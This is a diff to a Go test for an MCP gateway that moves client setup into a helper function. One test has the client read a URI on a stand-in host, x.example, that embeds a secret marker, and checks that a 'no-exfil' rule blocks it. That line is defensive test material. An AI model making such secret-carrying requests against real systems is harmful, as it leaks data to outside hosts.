@@ -9,8 +9,6 @@ import (
 	"testing"
 	"time"
 
-	"github.com/mark3labs/mcp-go/client"
-	mcptransport "github.com/mark3labs/mcp-go/client/transport"
 	"github.com/mark3labs/mcp-go/mcp"
 
 	"github.com/sluicehq/sluice/examples/demo-server/demo"
@@ -314,18 +312,7 @@ func TestReadsMCPGoClientAfterDeny(t *testing.T) {
 		t.Run(version, func(t *testing.T) {
 			ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
 			defer cancel()
-			trans, err := mcptransport.NewStreamableHTTP(gw.URL + "/mcp/web")
-			if err != nil {
-				t.Fatal(err)
-			}
-			c := client.NewClient(trans, client.WithProtocolVersion(version))
-			if err := c.Start(ctx); err != nil {
-				t.Fatal(err)
-			}
-			defer c.Close()
-			if _, err := c.Initialize(ctx, mcp.InitializeRequest{Params: mcp.InitializeParams{ClientInfo: mcp.Implementation{Name: "raw", Version: "1"}}}); err != nil {
-				t.Fatalf("Initialize: %v", err)
-			}
+			c := mcpGoClient(t, ctx, gw.URL+"/mcp/web", version)
 			if _, err := c.ListResources(ctx, mcp.ListResourcesRequest{}); err != nil {
 				t.Fatalf("ListResources: %v", err)
 			}
@@ -339,7 +326,7 @@ func TestReadsMCPGoClientAfterDeny(t *testing.T) {
 				t.Errorf("GetPrompt of the listed prompt: %v", err)
 			}
 			mark := "SECRET-mcpgo-read-" + version
-			_, err = c.ReadResource(ctx, mcp.ReadResourceRequest{Params: mcp.ReadResourceParams{URI: "https://x.example/search/" + mark}})
+			_, err := c.ReadResource(ctx, mcp.ReadResourceRequest{Params: mcp.ReadResourceParams{URI: "https://x.example/search/" + mark}})
 			if err == nil || !strings.Contains(err.Error(), "no-exfil") || web.reached(mark) {
 				t.Errorf("ReadResource of a URI of its making: %v, want the route rule's error and nothing at the upstream", err)
 			}
